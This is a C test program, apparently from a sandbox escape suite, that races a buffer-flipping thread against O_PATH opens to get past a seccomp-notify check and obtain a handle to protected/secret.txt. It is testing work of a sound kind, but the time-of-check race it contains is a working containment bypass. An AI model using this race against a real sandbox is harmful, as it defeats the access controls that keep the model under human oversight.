/*
 * Vector 3 under seccomp-notify: an O_PATH open is answered CONTINUE
 * (enforce/notify_open.c apply(): ADDFD cannot pass an O_PATH file), with
 * no continue_safe() check, so the kernel reads the path again from the
 * caller's memory after the decision. A thread flips the buffer between a
 * decoy in work/ and protected/secret.txt (same length) while the main
 * thread opens it O_PATH, for 5 s. Opening the secret O_PATH by name is
 * denied; an O_PATH fd is a handle for the *at(fd, "", AT_EMPTY_PATH)
 * calls (fchmodat2, fchownat, linkat, utimensat, execveat), which are
 * decided on the fd's file but then open to esc_fchmodat_empty_race.
 * success = an O_PATH fd whose link names protected/secret.txt.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>

static char path[4096], decoy[4096], target[4096];
static size_t len;
static atomic_bool stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(path, decoy, len);
		memcpy(path, target, len);
	}
	return NULL;
}

int main(void)
{
	size_t wl = strlen(esc_work()), pl;
	long tries = 0;
	pthread_t t;
	int fd;

	snprintf(target, sizeof(target), "%s", esc_secret_path());
	len = strlen(target);
	pl = len - wl - 1;
	if (len <= wl + 1 + 10)
		esc_broken("paths too short");
	/* work/ + a name as long as "protected/secret.txt" - "work/" */
	snprintf(decoy, sizeof(decoy), "%s/%0*d", esc_work(), (int)pl, 0);
	fd = open(decoy, O_WRONLY | O_CREAT, 0644);
	if (fd < 0 || strlen(decoy) != len)
		esc_broken("decoy %s: %s", decoy, strerror(errno));
	close(fd);
	memcpy(path, decoy, len + 1);
	if (pthread_create(&t, NULL, flipper, NULL))
		esc_broken("pthread_create");
	for (double end = esc_now() + esc_race_seconds(); esc_now() < end; tries++) {
		char l[4096];
		ssize_t n;

		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = readlink(esc_fmt("/proc/self/fd/%d", fd), l, sizeof(l) - 1);
		close(fd);
		if (n > 0 && (l[n] = 0, strcmp(l, target) == 0)) {
			atomic_store(&stop, true);
			pthread_join(t, NULL);
			esc_success("an O_PATH fd of protected/secret.txt after %ld opens", tries);
		}
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_blocked("no O_PATH fd of the secret in %ld opens", tries);
}
